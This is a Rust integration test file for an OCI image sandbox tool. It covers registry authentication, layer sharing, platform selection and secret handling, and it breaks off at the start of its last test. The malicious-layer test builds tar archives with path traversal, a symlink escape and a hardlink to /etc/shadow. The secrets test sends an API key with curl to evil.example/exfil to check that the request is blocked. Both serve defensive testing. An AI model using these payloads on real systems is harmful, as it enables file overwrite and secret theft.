//! OCI images end to end: a real registry (Debian's `docker-registry`, TLS from the test CA,
//! htpasswd Basic auth or a bearer-token server) in the fake internet's namespace, images made offline by each test
//! (busybox from `busybox-static`, curl and its libraries copied from the host) with `umoci`
//! and pushed with `skopeo`, pulled and run by the real `standin` binary in the client
//! namespace. Each test has its own namespaces, registry, images and `STANDIN_HOME`.

#[path = "images_support/registry.rs"]
mod registry;
mod support;
#[path = "images_support/token.rs"]
mod token;

use registry::{
    Auth, PASSWORD, REGISTRY, Registry, USER, b64, curl_layout, curl_layout_with, empty_image,
    image, pull_ok, run, standin, umoci,
};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Child, Command};
use support::{FakeInternet, report, stderr, stdout};

/// An OCI layout with a busybox image at tag `base`: busybox and its applet links, passwd
/// with an `agent` user, a file `/etc/doomed` later images delete, and a config with Env,
/// WorkingDir, User and Cmd.
fn busybox_layout(dir: &Path) -> PathBuf {
    let (layout, bundle) = empty_image(dir, "oci");
    let l = layout.to_str().unwrap();
    let root = bundle.join("rootfs");
    std::fs::create_dir_all(root.join("bin")).unwrap();
    std::fs::create_dir_all(root.join("etc")).unwrap();
    std::fs::copy("/bin/busybox", root.join("bin/busybox")).unwrap();
    for applet in [
        "sh", "echo", "cat", "ls", "id", "env", "pwd", "test", "rm", "wc",
    ] {
        std::os::unix::fs::symlink("busybox", root.join("bin").join(applet)).unwrap();
    }
    std::fs::write(
        root.join("etc/passwd"),
        "root:x:0:0:root:/root:/bin/sh\nagent:x:1000:1000::/home/agent:/bin/sh\n",
    )
    .unwrap();
    std::fs::write(root.join("etc/group"), "root:x:0:\nagent:x:1000:\n").unwrap();
    std::fs::write(root.join("etc/doomed"), "from the base layer\n").unwrap();
    umoci(&[
        "repack",
        "--image",
        &format!("{l}:base"),
        bundle.to_str().unwrap(),
    ]);
    umoci(&[
        "config",
        "--image",
        &format!("{l}:base"),
        "--config.env",
        "PATH=/bin",
        "--config.env",
        "IMAGE_VAR=from-image",
        "--config.workingdir",
        "/work",
        "--config.user",
        "agent",
        "--config.cmd",
        "sh",
        "--config.cmd",
        "-c",
        "--config.cmd",
        "echo cmd:$IMAGE_VAR:$(pwd):$HOME; id -u",
    ]);
    std::fs::remove_dir_all(&bundle).unwrap();
    layout
}

/// Tag `child` in `layout`: `base` plus a layer that deletes `/etc/doomed` (a whiteout) and
/// adds `/etc/child` (owned by the image's user).
fn add_child_image(dir: &Path, layout: &Path) {
    let l = layout.to_str().unwrap();
    let bundle = dir.join("bundle-child");
    umoci(&[
        "unpack",
        "--image",
        &format!("{l}:base"),
        bundle.to_str().unwrap(),
    ]);
    std::fs::remove_file(bundle.join("rootfs/etc/doomed")).unwrap();
    std::fs::write(bundle.join("rootfs/etc/child"), "child layer\n").unwrap();
    // The image's user (agent, 1000) owns it: runs may write it.
    std::os::unix::fs::chown(bundle.join("rootfs/etc/child"), Some(1000), Some(1000)).unwrap();
    umoci(&[
        "repack",
        "--image",
        &format!("{l}:child"),
        bundle.to_str().unwrap(),
    ]);
    std::fs::remove_dir_all(&bundle).unwrap();
}

/// This host's architecture as OCI names it.
fn host_arch() -> &'static str {
    match std::env::consts::ARCH {
        "x86_64" => "amd64",
        "aarch64" => "arm64",
        other => other,
    }
}

/// Tag `multi` and `foreign` in `layout` (which has `base`): OCI image indexes over `base`'s
/// layers. `multi` lists another platform first and then this host's; `foreign` lists only
/// platforms this host is not (another architecture, and this architecture on Windows). Each
/// manifest's config adds `PICKED=` naming its platform, so a run shows which was chosen.
fn add_index_images(layout: &Path) {
    use serde_json::{Value, json};
    let read = |digest: &str| read_json_blob(layout, digest);
    let put = |v: &Value| put_blob(layout, &serde_json::to_vec(v).unwrap());
    let index_path = layout.join("index.json");
    let mut top: Value = serde_json::from_slice(&std::fs::read(&index_path).unwrap()).unwrap();
    let base = top["manifests"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["annotations"]["org.opencontainers.image.ref.name"] == "base")
        .unwrap()
        .clone();
    let manifest = read(base["digest"].as_str().unwrap());
    let config = read(manifest["config"]["digest"].as_str().unwrap());
    let platform = |os: &str, arch: &str| -> Value {
        let mut c = config.clone();
        c["os"] = json!(os);
        c["architecture"] = json!(arch);
        c["config"]["Env"]
            .as_array_mut()
            .unwrap()
            .push(json!(format!("PICKED={os}/{arch}")));
        let (digest, size) = put(&c);
        let mut m = manifest.clone();
        m["config"]["digest"] = json!(digest);
        m["config"]["size"] = json!(size);
        let (digest, size) = put(&m);
        json!({
            "mediaType": "application/vnd.oci.image.manifest.v1+json",
            "digest": digest,
            "size": size,
            "platform": {"os": os, "architecture": arch},
        })
    };
    let other = if host_arch() == "arm64" {
        "amd64"
    } else {
        "arm64"
    };
    for (tag, entries) in [
        (
            "multi",
            vec![platform("linux", other), platform("linux", host_arch())],
        ),
        (
            "foreign",
            vec![platform("linux", "s390x"), platform("windows", host_arch())],
        ),
    ] {
        let (digest, size) = put(&json!({
            "schemaVersion": 2,
            "mediaType": "application/vnd.oci.image.index.v1+json",
            "manifests": entries,
        }));
        top["manifests"].as_array_mut().unwrap().push(json!({
            "mediaType": "application/vnd.oci.image.index.v1+json",
            "digest": digest,
            "size": size,
            "annotations": {"org.opencontainers.image.ref.name": tag},
        }));
    }
    std::fs::write(&index_path, serde_json::to_vec(&top).unwrap()).unwrap();
}

fn layer_dirs(home: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(home.join("images/layers"))
        .map(|rd| {
            rd.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    v.sort();
    v
}

/// Python that runs argv on a pseudo-terminal and exits with its status.
const PTY_SPAWN: &str =
    "import os, pty, sys; sys.exit(os.waitstatus_to_exitcode(pty.spawn(sys.argv[1:])))";

/// One registry with the busybox image pushed as `bb:1`.
fn setup() -> (
    FakeInternet,
    Registry,
    tempfile::TempDir,
    tempfile::TempDir,
    PathBuf,
) {
    let net = FakeInternet::with_tls(&[], &[], &[8443]);
    let reg = Registry::start(&net);
    let work = tempfile::tempdir().unwrap();
    let layout = busybox_layout(work.path());
    reg.push(&net, &layout, "base", "bb:1");
    let home = tempfile::tempdir().unwrap();
    (net, reg, work, home, layout)
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn pulls_over_tls_with_basic_auth_and_runs_the_image_config() {
    let (net, reg, _work, home, _layout) = setup();
    let ca = net.ca_file().display().to_string();
    let h = home.path();
    let o = pull_ok(&net, &reg, h, "bb:1");
    assert!(
        stdout(&o).starts_with("registry.test:5000/bb:1 sha256:"),
        "{}",
        stdout(&o)
    );
    // No command: the image's Cmd, as its User, in its WorkingDir, with its Env.
    let o = standin(&net, &reg, h, &["run", "--image", &image("bb:1")]);
    assert_eq!(
        stdout(&o),
        "cmd:from-image:/work:/home/agent\n1000\n",
        "{}",
        report(&o, &net)
    );
    // The same on a terminal: `run -it --image` with no command runs the Cmd on a pty of the
    // sandbox's own (the pty turns each newline into CR LF).
    let o = std::process::Command::new("python3")
        .args(["-c", PTY_SPAWN, support::standin_bin()])
        .args(["run", "-it", "--no-network", "--image", &image("bb:1")])
        .env("STANDIN_HOME", h)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert!(
        stdout(&o).contains("cmd:from-image:/work:/home/agent\r\n1000\r\n"),
        "{}",
        report(&o, &net)
    );
    // A workdir of a host user becomes the image User's (agent, uid 1000 inside), and what
    // agent writes there comes back the host user's.
    let work = tempfile::tempdir().unwrap();
    std::os::unix::fs::chown(work.path(), Some(4242), Some(4243)).unwrap();
    let ws = work.path().display().to_string();
    let o = standin(
        &net,
        &reg,
        h,
        &[
            "run",
            "--workdir",
            &ws,
            "--image",
            &image("bb:1"),
            "--",
            "sh",
            "-c",
            "stat -c %u /workspace && echo a > /workspace/by-agent && echo wrote",
        ],
    );
    assert_eq!(stdout(&o), "1000\nwrote\n", "{}", report(&o, &net));
    let m = std::fs::metadata(work.path().join("by-agent")).unwrap();
    assert_eq!(
        (
            std::os::unix::fs::MetadataExt::uid(&m),
            std::os::unix::fs::MetadataExt::gid(&m)
        ),
        (4242, 4243)
    );
    // The user's --env comes after the image's; the image's User (agent) gets the
    // permissions the image gives it: none on /etc.
    let script = "echo $IMAGE_VAR; echo x > /etc/new-file && cat /etc/new-file";
    let o = standin(
        &net,
        &reg,
        h,
        &[
            "run",
            "--image",
            &image("bb:1"),
            "--env",
            "IMAGE_VAR=mine",
            "--",
            "sh",
            "-c",
            script,
        ],
    );
    assert!(!o.status.success(), "{}", report(&o, &net));
    assert_eq!(stdout(&o), "mine\n", "{}", report(&o, &net));
    assert!(
        stderr(&o).contains("Permission denied"),
        "agent cannot write /etc: {}",
        report(&o, &net)
    );
    let images = standin(&net, &reg, h, &["images"]);
    assert!(
        stdout(&images).contains("registry.test:5000/bb:1"),
        "{}",
        stdout(&images)
    );
    // With the registry gone, --pull missing (the default) runs from the store...
    drop(reg);
    let reg2 = Registry::start(&net);
    // ...a new, empty registry: anything fetched would fail, so success proves no contact.
    let o = standin(
        &net,
        &reg2,
        h,
        &[
            "run",
            "--image",
            &image("bb:1"),
            "--",
            "sh",
            "-c",
            "echo $IMAGE_VAR",
        ],
    );
    assert_eq!(stdout(&o), "from-image\n", "{}", report(&o, &net));
    let o = standin(
        &net,
        &reg2,
        h,
        &[
            "run",
            "--registry-ca",
            &ca,
            "--pull",
            "always",
            "--image",
            &image("bb:1"),
            "--",
            "true",
        ],
    );
    assert!(!o.status.success());
    assert!(
        stderr(&o).contains("not found in the registry"),
        "{}",
        stderr(&o)
    );
    // rmi removes the record and its layers.
    let o = standin(&net, &reg2, h, &["rmi", &image("bb:1")]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(layer_dirs(h).is_empty(), "{:?}", layer_dirs(h));
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn denied_credentials_untrusted_tls_and_bad_names_say_what_to_do() {
    let (net, reg, work, home, _layout) = setup();
    let ca = net.ca_file().display().to_string();
    let h = home.path();
    // Wrong password.
    let bad = work.path().join("bad-auth.json");
    std::fs::write(
        &bad,
        format!(
            r#"{{"auths":{{"{REGISTRY}":{{"auth":"{}"}}}}}}"#,
            b64(&format!("{USER}:wrong"))
        ),
    )
    .unwrap();
    let o = run(Command::new("ip")
        .args(["netns", "exec", &net.client, support::standin_bin()])
        .args(["pull", "--registry-ca", &ca, &image("bb:1")])
        .env("STANDIN_HOME", h)
        .env("REGISTRY_AUTH_FILE", &bad));
    assert!(!o.status.success());
    assert!(stderr(&o).contains("refused access"), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("bad-auth.json"),
        "names the file: {}",
        stderr(&o)
    );
    // Without the CA.
    let o = standin(&net, &reg, h, &["pull", &image("bb:1")]);
    assert!(!o.status.success());
    assert!(stderr(&o).contains("--registry-ca"), "{}", stderr(&o));
    // A missing tag, a bad name.
    let o = standin(
        &net,
        &reg,
        h,
        &["pull", "--registry-ca", &ca, &image("bb:nope")],
    );
    assert!(
        stderr(&o).contains("not found in the registry"),
        "{}",
        stderr(&o)
    );
    let o = standin(&net, &reg, h, &["pull", "Bad/Name"]);
    assert!(
        stderr(&o).contains("not a valid image reference"),
        "{}",
        stderr(&o)
    );
    assert!(layer_dirs(h).is_empty());
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn shared_layers_are_stored_once_whiteouts_delete_and_pull_always_follows_a_moved_tag() {
    let (net, reg, work, home, layout) = setup();
    let ca = net.ca_file().display().to_string();
    let h = home.path();
    add_child_image(work.path(), &layout);
    reg.push(&net, &layout, "child", "child:1");
    for name in ["bb:1", "child:1"] {
        pull_ok(&net, &reg, h, name);
    }
    assert_eq!(
        layer_dirs(h).len(),
        2,
        "base layer shared: {:?}",
        layer_dirs(h)
    );
    let check = "cat /etc/doomed 2>/dev/null || echo gone; cat /etc/child 2>/dev/null || echo none";
    let o = standin(
        &net,
        &reg,
        h,
        &["run", "--image", &image("child:1"), "--", "sh", "-c", check],
    );
    assert_eq!(stdout(&o), "gone\nchild layer\n", "{}", report(&o, &net));
    // The copy fallback merges the same way, and writes stay in the sandbox: a file of the
    // base layer overwritten in one run is intact in the next.
    let copy_run = |script: &str| {
        run(Command::new("ip")
            .args(["netns", "exec", &net.client, support::standin_bin(), "run"])
            .args(["--image", &image("child:1"), "--", "sh", "-c", script])
            .env("STANDIN_HOME", h)
            .env("STANDIN_IMAGE_ROOT", "copy"))
    };
    let o = copy_run(&format!(
        "{check}; echo scribbled > /etc/child; cat /etc/child"
    ));
    assert_eq!(
        stdout(&o),
        "gone\nchild layer\nscribbled\n",
        "{}",
        stderr(&o)
    );
    let o = copy_run("cat /etc/child");
    assert_eq!(stdout(&o), "child layer\n", "{}", stderr(&o));
    let o = standin(
        &net,
        &reg,
        h,
        &["run", "--image", &image("bb:1"), "--", "sh", "-c", check],
    );
    assert_eq!(
        stdout(&o),
        "from the base layer\nnone\n",
        "{}",
        report(&o, &net)
    );
    // Move bb:1 to the child image.
    reg.push(&net, &layout, "child", "bb:1");
    let o = standin(
        &net,
        &reg,
        h,
        &["run", "--image", &image("bb:1"), "--", "sh", "-c", check],
    );
    assert_eq!(
        stdout(&o),
        "from the base layer\nnone\n",
        "--pull missing keeps the stored image"
    );
    let o = standin(
        &net,
        &reg,
        h,
        &[
            "run",
            "--registry-ca",
            &ca,
            "--pull",
            "always",
            "--image",
            &image("bb:1"),
            "--",
            "sh",
            "-c",
            check,
        ],
    );
    assert_eq!(stdout(&o), "gone\nchild layer\n", "{}", report(&o, &net));
    // Both images now name the same layers; prune finds nothing to remove.
    let o = standin(&net, &reg, h, &["image", "prune"]);
    assert!(
        stdout(&o).contains("0 unused layers removed"),
        "{}",
        stdout(&o)
    );
}

/// Write a one-layer OCI layout whose layer is `tar` (uncompressed), tagged `evil`.
fn layout_with_layer(dir: &Path, tar: &[u8]) -> PathBuf {
    let file = dir.join("evil-layer.tar");
    std::fs::write(&file, tar).unwrap();
    one_layer_layout(dir, "evil-oci", "evil", &file, serde_json::json!({}))
}

/// Write an OCI layout `dir/NAME` with one image at `tag`: the uncompressed tar at `tar` (moved
/// into the layout) as its layer, and `config` as its runtime configuration.
fn one_layer_layout(
    dir: &Path,
    name: &str,
    tag: &str,
    tar: &Path,
    config: serde_json::Value,
) -> PathBuf {
    use serde_json::json;
    let layout = dir.join(name);
    let blobs = layout.join("blobs/sha256");
    std::fs::create_dir_all(&blobs).unwrap();
    let put = |bytes: &[u8]| put_blob(&layout, bytes);
    let sum = run(Command::new("sha256sum").arg(tar));
    let hex = stdout(&sum)[..64].to_owned();
    let layer_len = std::fs::metadata(tar).unwrap().len();
    std::fs::rename(tar, blobs.join(&hex)).unwrap();
    let layer = format!("sha256:{hex}");
    let config = json!({
        "architecture": host_arch(),
        "os": "linux",
        "config": config,
        "rootfs": {"type": "layers", "diff_ids": [layer]},
    });
    let (cfg, cfg_len) = put(config.to_string().as_bytes());
    let manifest = json!({
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": cfg, "size": cfg_len},
        "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar", "digest": layer, "size": layer_len}],
    });
    let (man, man_len) = put(manifest.to_string().as_bytes());
    std::fs::write(
        layout.join("oci-layout"),
        r#"{"imageLayoutVersion":"1.0.0"}"#,
    )
    .unwrap();
    let index = json!({
        "schemaVersion": 2,
        "manifests": [{
            "mediaType": "application/vnd.oci.image.manifest.v1+json",
            "digest": man,
            "size": man_len,
            "annotations": {"org.opencontainers.image.ref.name": tag},
        }],
    });
    std::fs::write(layout.join("index.json"), index.to_string()).unwrap();
    layout
}

fn sha256_hex(bytes: &[u8]) -> String {
    let out = Command::new("sha256sum")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut c| {
            c.stdin.take().unwrap().write_all(bytes)?;
            c.wait_with_output()
        })
        .unwrap();
    String::from_utf8_lossy(&out.stdout)[..64].to_owned()
}

/// A tar with raw entries (paths the tar builders refuse to write).
fn raw_tar(entries: &[(&str, u8, &str, &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    for (path, kind, link, data) in entries {
        let mut h = [0u8; 512];
        h[..path.len()].copy_from_slice(path.as_bytes());
        h[100..107].copy_from_slice(b"0000644");
        h[108..115].copy_from_slice(b"0000000");
        h[116..123].copy_from_slice(b"0000000");
        h[124..135].copy_from_slice(format!("{:011o}", data.len()).as_bytes());
        h[136..147].copy_from_slice(b"00000000000");
        h[156] = *kind;
        h[157..157 + link.len()].copy_from_slice(link.as_bytes());
        h[148..156].copy_from_slice(b"        ");
        let sum: u32 = h.iter().map(|b| *b as u32).sum();
        h[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
        out.extend_from_slice(&h);
        out.extend_from_slice(data);
        out.resize(out.len().div_ceil(512) * 512, 0);
    }
    out.resize(out.len() + 1024, 0);
    out
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn malicious_layers_are_refused_and_the_store_stays_intact() {
    let (net, reg, work, home, _layout) = setup();
    let ca = net.ca_file().display().to_string();
    let h = home.path();
    pull_ok(&net, &reg, h, "bb:1");
    let before = layer_dirs(h);
    let victim = work.path().join("victim");
    std::fs::create_dir(&victim).unwrap();
    let victim_s = victim.display().to_string();
    let traversal = format!("../../../../../../..{victim_s}/traversal");
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("traversal", raw_tar(&[(&traversal, b'0', "", b"pwned")])),
        (
            "absolute",
            raw_tar(&[(&format!("{victim_s}/absolute"), b'0', "", b"pwned")]),
        ),
        (
            "symlink",
            raw_tar(&[
                ("esc", b'2', &victim_s, b""),
                ("esc/through-link", b'0', "", b"pwned"),
            ]),
        ),
        ("hardlink", raw_tar(&[("pw", b'1', "/etc/shadow", b"")])),
        // A PAX header of 2 MiB: past the 1 MiB limit, refused before it is read.
        (
            "absurd size",
            raw_tar(&[("pax", b'x', "", &vec![b'a'; 2 << 20])]),
        ),
    ];
    for (i, (what, tar)) in cases.iter().enumerate() {
        let dir = work.path().join(format!("case{i}"));
        std::fs::create_dir(&dir).unwrap();
        let layout = layout_with_layer(&dir, tar);
        reg.push(&net, &layout, "evil", &format!("evil{i}:1"));
        let o = standin(
            &net,
            &reg,
            h,
            &["pull", "--registry-ca", &ca, &image(&format!("evil{i}:1"))],
        );
        assert!(!o.status.success(), "{what}: {}", report(&o, &net));
        assert!(stderr(&o).contains("was refused"), "{what}: {}", stderr(&o));
        assert_eq!(layer_dirs(h), before, "{what}: nothing published");
        assert_eq!(
            std::fs::read_dir(&victim).unwrap().count(),
            0,
            "{what}: nothing written outside"
        );
        let staging = std::fs::read_dir(h.join("images/tmp")).unwrap().count();
        assert_eq!(staging, 0, "{what}: staging cleaned up");
    }
    // The image pulled before the refusals still runs.
    let o = standin(
        &net,
        &reg,
        h,
        &[
            "run",
            "--image",
            &image("bb:1"),
            "--",
            "sh",
            "-c",
            "echo intact",
        ],
    );
    assert_eq!(stdout(&o), "intact\n", "{}", report(&o, &net));
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn concurrent_pulls_of_one_image_share_one_copy() {
    let (net, reg, _work, home, _layout) = setup();
    let ca = net.ca_file().display().to_string();
    let h = home.path();
    let spawn = || {
        Command::new("ip")
            .args(["netns", "exec", &net.client, support::standin_bin()])
            .args(["pull", "--registry-ca", &ca, &image("bb:1")])
            .env("STANDIN_HOME", h)
            .env("REGISTRY_AUTH_FILE", reg.auth_file())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap()
    };
    let children: Vec<Child> = (0..4).map(|_| spawn()).collect();
    for c in children {
        let o = c.wait_with_output().unwrap();
        assert!(o.status.success(), "{}", stderr(&o));
    }
    assert_eq!(layer_dirs(h).len(), 1);
    let o = standin(
        &net,
        &reg,
        h,
        &[
            "run",
            "--image",
            &image("bb:1"),
            "--",
            "sh",
            "-c",
            "echo ok",
        ],
    );
    assert_eq!(stdout(&o), "ok\n", "{}", report(&o, &net));
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn secrets_keep_all_four_outcomes_inside_an_image_sandbox() {
    const VALUE: &str = "sk-image-test-0123456789";
    const PH: &str = "$MSB_OPENAI_API_KEY";
    let net = FakeInternet::with_http(&[80], &[443]);
    let reg = Registry::start(&net);
    let work = tempfile::tempdir().unwrap();
    let layout = curl_layout(work.path());
    reg.push(&net, &layout, "base", "curl:1");
    let home = tempfile::tempdir().unwrap();
    let ca = net.ca_file().display().to_string();
    pull_ok(&net, &reg, home.path(), "curl:1");
    let sandbox = |extra: &[&str], script: &str| {
        run(Command::new("ip")
            .args(["netns", "exec", &net.client, support::standin_bin(), "run"])
            .args(["--image", &image("curl:1"), "--upstream-ca", &ca])
            .args(["--secret", "OPENAI_API_KEY@api.openai.com"])
            .args(extra)
            .args(["--", "sh", "-c", script])
            .env("STANDIN_HOME", home.path())
            .env("OPENAI_API_KEY", VALUE))
    };
    // Substitute, pass through, block.
    let script = r#"test ! -e /usr/bin/python3 && echo image-root; \
        curl -sS -m 5 -o /dev/null -w '%{http_code}\n' -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/v1/models; \
        curl -sS -m 5 -o /dev/null -w '%{http_code}\n' -H "X-Trace: $OPENAI_API_KEY" https://traces.example/v1/traces; \
        curl -sS -m 5 -o /dev/null -H "Authorization: Bearer $OPENAI_API_KEY" https://evil.example/ 2>/dev/null || echo blocked"#;
    let o = sandbox(&["--secret-passthrough", "traces.example"], script);
    assert_eq!(
        stdout(&o),
        "image-root\n200\n200\nblocked\n",
        "{}",
        report(&o, &net)
    );
    let got = net.received_at(support::UPSTREAM_V4);
    assert!(
        got.to_ascii_lowercase()
            .contains(&format!("authorization: bearer {VALUE}\r\n")),
        "{got}"
    );
    let traces = net.received_at(support::TRACES_V4);
    assert!(
        traces
            .to_ascii_lowercase()
            .contains(&format!("x-trace: {}", PH.to_ascii_lowercase())),
        "{traces}"
    );
    // Block and terminate: the whole image sandbox goes, nothing after the violation runs.
    let script = r#"curl -sS -m 5 -o /dev/null -H "X: $OPENAI_API_KEY" https://evil.example/exfil 2>/dev/null; \
        echo survived; curl -sS -m 5 https://api.openai.com/after-terminate"#;
    let o = sandbox(&["--on-secret-violation", "block-and-terminate"], script);
    assert_eq!(o.status.code(), Some(99), "{}", report(&o, &net));
    assert!(!stdout(&o).contains("survived"), "{}", report(&o, &net));
    assert!(stderr(&o).contains("terminated"), "{}", report(&o, &net));
    let all = net.received();
    let evil = net.received_at(support::EVIL_V4);
    assert!(!evil.contains(VALUE) && !evil.contains("MSB_"), "{evil}");
    assert!(
        !all.contains("/exfil") && !all.contains("/after-terminate"),
        "{all}"
    );
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn pulls_through_the_bearer_token_flow() {
    let net = FakeInternet::with_tls(&[], &[], &[8443]);
    let reg = Registry::start_with(&net, Auth::Token);
    let work = tempfile::tempdir().unwrap();
    let layout = busybox_layout(work.path());
    reg.push(&net, &layout, "base", "bb:1");
    let home = tempfile::tempdir().unwrap();
    let ca = net.ca_file().display().to_string();
    let log = reg.dir.path().join("token-requests.log");
    let pushed = std::fs::read_to_string(&log).unwrap_or_default();
    let o = standin(
        &net,
        &reg,
        home.path(),
        &[
            "run",
            "--registry-ca",
            &ca,
            "--image",
            &image("bb:1"),
            "--",
            "cat",
            "/etc/doomed",
        ],
    );
    assert!(o.status.success(), "{}", report(&o, &net));
    let all = std::fs::read_to_string(&log).unwrap();
    let ours = &all[pushed.len()..];
    // standin asked the realm for a pull token for the repository, with the credentials
    // from REGISTRY_AUTH_FILE, and the registry accepted what the token server signed.
    assert!(
        ours.contains("service=registry.test")
            && (ours.contains("repository%3Abb%3Apull") || ours.contains("repository:bb:pull")),
        "{ours}"
    );
    assert!(
        ours.contains(&format!(
            "auth=Basic {}",
            b64(&format!("{USER}:{PASSWORD}"))
        )),
        "{ours}"
    );
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn picks_this_hosts_platform_from_an_index_or_names_the_platforms_offered() {
    let (net, reg, _work, home, layout) = setup();
    add_index_images(&layout);
    let all = ["--multi-arch", "all"];
    reg.push_with(&net, &layout, "multi", "multi:1", &all);
    reg.push_with(
        &net,
        &layout,
        "multi",
        "multi-docker:1",
        &[&all[..], &["--format", "v2s2"]].concat(),
    );
    reg.push_with(&net, &layout, "foreign", "foreign:1", &all);
    // What the registry serves: an OCI index, and a Docker manifest list.
    let served = |name: &str| {
        let o = run(Command::new("ip")
            .args([
                "netns",
                "exec",
                &net.client,
                "curl",
                "-sS",
                "-o",
                "/dev/null",
            ])
            .args(["-w", "%{content_type}", "--cacert"])
            .arg(net.ca_file())
            .args(["-u", &format!("{USER}:{PASSWORD}"), "-H"])
            .arg(
                "Accept: application/vnd.oci.image.index.v1+json, \
                 application/vnd.docker.distribution.manifest.list.v2+json",
            )
            .arg(format!("https://{REGISTRY}/v2/{name}/manifests/1")));
        stdout(&o)
    };
    assert_eq!(served("multi"), "application/vnd.oci.image.index.v1+json");
    assert_eq!(
        served("multi-docker"),
        "application/vnd.docker.distribution.manifest.list.v2+json"
    );
    let want = format!("PICKED=linux/{}\n", host_arch());
    for name in ["multi:1", "multi-docker:1"] {
        pull_ok(&net, &reg, home.path(), name);
        let o = standin(
            &net,
            &reg,
            home.path(),
            &[
                "run",
                "--no-network",
                "--image",
                &image(name),
                "--pull",
                "never",
            ]
            .into_iter()
            .chain(["--", "sh", "-c", "echo PICKED=$PICKED"])
            .collect::<Vec<_>>(),
        );
        assert_eq!(stdout(&o), want, "{name}: {}", report(&o, &net));
    }
    // Both indexes point at base's layers: stored once.
    assert_eq!(layer_dirs(home.path()).len(), 1);

    let ca = net.ca_file().display().to_string();
    let o = standin(
        &net,
        &reg,
        home.path(),
        &["pull", "--registry-ca", &ca, &image("foreign:1")],
    );
    assert!(!o.status.success(), "{}", report(&o, &net));
    let err = stderr(&o);
    for needle in [
        format!("has no image for linux/{}", host_arch()),
        "linux/s390x".to_owned(),
        format!("windows/{}", host_arch()),
    ] {
        assert!(err.contains(&needle), "{needle:?} not in: {err}");
    }
    let listed = standin(&net, &reg, home.path(), &["images"]);
    assert!(!stdout(&listed).contains("foreign"), "{}", stdout(&listed));
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn the_sandbox_ca_is_trusted_through_each_distributions_bundle_path() {
    let net = FakeInternet::with_http(&[80], &[443]);
    let reg = Registry::start(&net);
    let work = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    // The image's own roots: any certificate that did not sign the sandbox's leaves.
    let roots = std::fs::read_to_string(net.ca_file()).unwrap();
    let put = |root: &Path, path: &str| {
        let p = root.join(path.trim_start_matches('/'));
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, &roots).unwrap();
    };
    // Alpine: one file. Fedora/RHEL: the extracted bundle, and the classic path linking to it.
    let alpine = curl_layout_with(work.path(), "alpine-oci", |r| put(r, "/etc/ssl/cert.pem"));
    let fedora = curl_layout_with(work.path(), "fedora-oci", |r| {
        put(r, "/etc/pki/ca-trust/extracted/pem/tls-ca-bundle.pem");
        std::fs::create_dir_all(r.join("etc/pki/tls/certs")).unwrap();
        std::os::unix::fs::symlink(
            "../../ca-trust/extracted/pem/tls-ca-bundle.pem",
            r.join("etc/pki/tls/certs/ca-bundle.crt"),
        )
        .unwrap();
    });
    reg.push(&net, &alpine, "base", "alpine-like:1");
    reg.push(&net, &fedora, "base", "fedora-like:1");
    let ca = net.ca_file().display().to_string();
    let lines = roots.lines().count();
    for (name, bundles) in [
        ("alpine-like:1", &["/etc/ssl/cert.pem"][..]),
        (
            "fedora-like:1",
            &[
                "/etc/pki/tls/certs/ca-bundle.crt",
                "/etc/pki/ca-trust/extracted/pem/tls-ca-bundle.pem",
            ][..],
        ),
    ] {
        pull_ok(&net, &reg, home.path(), name);
        // No CA variables: only the distribution's bundle file can make curl trust the
        // boundary. The image's roots stay first in it.
        let script: String = bundles
            .iter()
            .map(|b| {
                format!(
                    "busybox head -n {lines} {b} | busybox md5sum; \
                     curl -sS -m 5 -o /dev/null -w '%{{http_code}}\\n' --cacert {b} https://api.openai.com/v1/models; "
                )
            })
            .collect();
        let o = run(Command::new("ip")
            .args(["netns", "exec", &net.client, support::standin_bin(), "run"])
            .args(["--image", &image(name), "--upstream-ca", &ca, "--"])
            .args([
                "busybox",
                "env",
                "-u",
                "CURL_CA_BUNDLE",
                "-u",
                "SSL_CERT_FILE",
            ])
            .args(["sh", "-c", &script])
            .env("STANDIN_HOME", home.path()));
        let md5 = run(Command::new("md5sum").arg(net.ca_file()));
        let md5 = stdout(&md5).split_whitespace().next().unwrap().to_owned();
        let want: String = bundles.iter().map(|_| format!("{md5}  -\n200\n")).collect();
        assert_eq!(stdout(&o), want, "{name}: {}", report(&o, &net));
    }
}

/// A minimal Debian root as one uncompressed tar, built by `.ci/run` with `debootstrap
/// --variant=minbase` from Debian's archive (the only download; the test itself reaches
/// nothing outside its namespaces). `STANDIN_TEST_DEBIAN_TAR` points elsewhere.
const DEBIAN_TAR: &str = "/var/cache/standin-ci/debian-bookworm-minbase.tar";

#[test]
#[ignore = "needs root (creates network namespaces) and the Debian root .ci/run builds with debootstrap"]
fn a_debootstrapped_debian_image_pulls_as_zstd_and_runs() {
